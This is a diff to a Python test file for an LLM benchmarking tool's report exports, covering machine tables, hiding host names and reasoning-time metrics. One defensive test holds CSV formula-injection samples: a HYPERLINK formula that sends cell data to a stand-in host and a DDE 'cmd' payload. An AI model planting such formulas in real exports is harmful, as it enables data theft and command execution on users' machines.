@@ -5,10 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+from dataclasses import replace
+from typing import Any
 
 from atom_core.arena import report
 from atom_core.arena.promptsets import PromptSetRunSpec, parse_prompt_set
 from atom_core.arena.rounds import ArenaRound, SlotResult, Vote
+from atom_core.measure import card
+from atom_core.measure.hardware import GpuInfo, MachineInfo
 
 
 def a_round() -> ArenaRound:
@@ -69,19 +73,22 @@ def test_round_csv_and_json() -> None:
     assert report.filename("arena", 1_700_000_000.0, "md") == "atom-arena-20231114-221320.md"
 
 
-def test_run_report() -> None:
+def a_run() -> PromptSetRunSpec:
     pset = parse_prompt_set('[{"prompt": "Capital <of> France?", "contains": "Paris"}, "Hi"]',
                             name="Geo")
-    run = PromptSetRunSpec.from_record({
+    return PromptSetRunSpec.from_record({
         "id": "r1", "created": 1_700_000_000.0, "set": pset.to_dict(),
            "settings": {"repeats": 1, "concurrency": 2, "seed": 42, "temperature": 0.0,
                         "max_tokens": 64, "warmup": True, "shuffle": True},
            "slots": [{"label": "A", "server": "http://s", "model": "a", "target": "a",
                       "contestant": "a", "options": {"seed": 42}}]})
+
+
+def a_run_records() -> list[dict[str, Any]]:
     metrics = {"ttft_s": 0.2, "e2e_s": 1.0, "decode_tps": 30.0, "output_tokens": 20,
                "tokens_source": "usage", "finish_reason": "stop", "itl_p50_s": None,
                "itl_p95_s": None}
-    records = [
+    return [
         {"run_id": "r1", "prompt_index": 0, "slot": 0, "repeat": 0, "label": "A", "model": "a",
          "contestant": "a", "ok": True, "error": "", "content": "Paris.", "metrics": metrics,
          "checks": [{"check": "contains “Paris”", "passed": True}]},
@@ -89,6 +96,10 @@ def test_run_report() -> None:
          "contestant": "a", "ok": False, "error": "Boom.", "content": "", "metrics": metrics,
          "checks": []},
     ]
+
+
+def test_run_report() -> None:
+    run, records = a_run(), a_run_records()
     md = report.run_markdown(run, records)
     assert "# ATOM prompt-set run: Geo" in md and "seed 42" in md
     assert "| Model A | a | 2 | 1 | 1 | 200 ms | 30.0 | 1.00 s | 1/1 |" in md
@@ -102,8 +113,6 @@ def test_run_report() -> None:
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
-    from dataclasses import replace
-
     rnd = a_round()
     evil = ("=HYPERLINK(\"http://x.test/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)")
     slots = tuple(replace(s, content=text, model=text)
@@ -113,3 +122,113 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
     assert [r["model"] for r in rows] == ["'" + t for t in evil[:3]]
     assert rows[1]["load_s"] == "2.5" and rows[0]["ttft_s"] == "0.1"  # numbers stay numbers
     assert rows[1]["quantization"] == "Q4_K_M"
+
+
+# -- the machine that produced the numbers ---------------------------------------------------------
+
+BOX = MachineInfo(cpu_model="AMD Ryzen 9 7950X", cpu_cores=16, cpu_threads=32,
+                  ram_total_mb=65536.0, os="Linux 6.8",
+                  gpus=(GpuInfo(name="NVIDIA RTX 4090", vram_total_mb=24564.0),),
+                  hostname="alices-secret-desk")
+ROW = f"| {BOX.id} | AMD Ryzen 9 7950X | 16 | 32 | 64 GB | NVIDIA RTX 4090 (24 GB) | Linux 6.8 |"
+
+
+def test_round_reports_name_the_machine_from_the_machines_table() -> None:
+    rnd = replace(a_round(), machine_id=BOX.id)
+    machines = {BOX.id: BOX}
+    md = report.round_markdown(rnd, machines)
+    assert "## Machine" in md and ROW in md
+    # the servers are not on ATOM's machine: the reader is told whose hardware this is
+    assert "http://lms:1234 is not on this machine" in md
+    page = report.round_html(rnd, machines)
+    assert "<td>AMD Ryzen 9 7950X</td>" in page and "NVIDIA RTX 4090 (24 GB)" in page
+    doc = json.loads(report.round_json(rnd, machines))
+    assert ArenaRound.from_record(doc) == rnd  # the stored round, unchanged, plus the machine
+    machine = doc["machine"]
+    assert machine["label"] == BOX.label and machine["servers_elsewhere"] == ["http://lms:1234"]
+    shared = {k: v for k, v in machine.items() if k not in ("label", "servers_elsewhere")}
+    assert shared == card.benchmark_card(BOX, [])["machine"]  # what the card says, no more
+    rows = list(csv.DictReader(io.StringIO(report.round_csv(rnd, machines))))
+    assert {(r["machine_id"], r["machine"]) for r in rows} == {(BOX.id, BOX.label)}
+    for text in (md, page, json.dumps(doc), report.round_csv(rnd, machines)):
+        assert "alices-secret-desk" not in text  # a report leaves the computer: no host name
+
+
+def test_a_local_server_needs_no_note_and_an_unrecorded_machine_says_so() -> None:
+    rnd = a_round()
+    local = replace(rnd, machine_id=BOX.id, slots=tuple(
+        replace(s, server="http://127.0.0.1:1234") for s in rnd.slots))
+    md = report.round_markdown(local, {BOX.id: BOX})
+    assert ROW in md and "not on this machine" not in md
+    old = report.round_markdown(rnd)  # a round saved before machines were recorded
+    assert "The machine was not recorded" in old and "| Machine id |" not in old
+    assert json.loads(report.round_json(rnd))["machine"] is None
+    unknown = report.round_markdown(replace(rnd, machine_id="feedface0000"), {})
+    assert "| feedface0000 | not in this ATOM's machines table |" in unknown
+
+
+def test_run_reports_name_each_machine_their_records_came_from() -> None:
+    other = replace(BOX, cpu_model="Apple M3 Max", gpus=(), os="Darwin 24.1")
+    run = replace(a_run(), machine_id=BOX.id)
+    records = [{**r, "machine_id": mid}
+               for r, mid in zip(a_run_records(), (BOX.id, other.id), strict=True)]
+    machines = {BOX.id: BOX, other.id: other}
+    md = report.run_markdown(run, records, machines)
+    assert ROW in md and f"| {other.id} | Apple M3 Max |" in md
+    assert "more than one machine" in md
+    assert "Apple M3 Max" in report.run_html(run, records, machines)
+    doc = json.loads(report.run_json(run, records, machines))
+    assert [m["id"] for m in doc["machines"]] == [BOX.id, other.id]
+    assert doc["run"]["machine_id"] == BOX.id
+    rows = list(csv.DictReader(io.StringIO(report.run_csv(run, records, machines))))
+    assert [r["machine"] for r in rows] == [BOX.label, other.label]
+    # records from before machines were recorded: the run's own machine stands for them
+    plain = report.run_markdown(run, a_run_records(), machines)
+    assert ROW in plain and "more than one machine" not in plain
+    assert PromptSetRunSpec.from_record(run.to_record()).machine_id == BOX.id
+
+
+# -- reasoning: the setting asked for, the thinking, when the answer began -----------------------
+
+
+def test_round_exports_carry_the_reasoning_setting_and_the_thinking() -> None:
+    rnd = a_round()
+    thinker = replace(rnd.slots[0], route="native", reasoning_setting="high",
+                      reasoning="Let me think | carefully.",
+                      metrics={**(rnd.slots[0].metrics or {}), "first_answer_s": 0.9,
+                               "thinking_s": 0.8})
+    rnd = replace(rnd, slots=(thinker, *rnd.slots[1:]))
+    rows = list(csv.DictReader(io.StringIO(report.round_csv(rnd))))
+    assert [r["reasoning_setting"] for r in rows] == ["high", "", ""]
+    assert rows[0]["reasoning"] == "Let me think | carefully." and rows[1]["reasoning"] == ""
+    assert (rows[0]["first_answer_s"], rows[0]["thinking_s"]) == ("0.9", "0.8")
+    md = report.round_markdown(rnd)
+    assert "| First answer | 900 ms (thought 800 ms) |" in md
+    assert "> Let me think | carefully." in md
+
+
+def test_run_reports_show_first_answer_thinking_and_each_slots_reasoning() -> None:
+    base = a_run().to_record()
+    base["slots"] = [{**base["slots"][0], "route": "native", "reasoning": "on"},
+                     {"label": "B", "server": "http://s", "model": "b", "target": "b",
+                      "contestant": "b"}]
+    run = PromptSetRunSpec.from_record(base)
+    records = a_run_records()
+    records[0]["metrics"] = {**records[0]["metrics"], "first_answer_s": 0.7, "thinking_s": 0.5}
+    records[0]["reasoning"] = "Hmm, France."
+    records.append({**records[0], "slot": 1, "label": "B", "model": "b", "contestant": "b",
+                    "reasoning": "", "metrics": {**records[0]["metrics"],
+                                                 "first_answer_s": 0.2, "thinking_s": None}})
+    md = report.run_markdown(run, records)
+    assert ("| Slot | Contestant | Requests | OK | Failed | TTFT p50 | First answer p50 | "
+            "Thinking p50 | tok/s p50 | End-to-end p50 | Checks passed |") in md
+    assert "| Model A | a | 2 | 1 | 1 | 200 ms | 700 ms | 500 ms | 30.0 | 1.00 s | 1/1 |" in md
+    assert "| Model B | b | 1 | 1 | 0 | 200 ms | 200 ms | – |" in md
+    assert "| Model A | a | http://s | a | native | on | seed=42 |" in md
+    assert "| Model B | b | http://s | b | completions | model default |" in md
+    page = report.run_html(run, records)
+    assert "<th>Thinking p50</th>" in page and "<td>model default</td>" in page
+    rows = list(csv.DictReader(io.StringIO(report.run_csv(run, records))))
+    assert [(r["route"], r["reasoning_setting"]) for r in rows] == [
+        ("native", "on"), ("native", "on"), ("completions", "")]
+    assert rows[0]["reasoning"] == "Hmm, France." and rows[0]["thinking_s"] == "0.5"
